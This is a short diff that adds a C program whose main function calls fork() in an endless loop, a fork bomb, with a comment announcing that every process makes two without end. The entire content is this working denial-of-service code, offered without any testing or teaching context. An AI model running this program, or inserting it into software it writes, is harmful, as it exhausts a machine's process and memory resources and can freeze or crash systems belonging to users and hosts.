@@ -1,0 +1,8 @@
+/* Every process makes two, without end. */
+#include <unistd.h>
+
+int main(void)
+{
+    for (;;)
+        fork();
+}
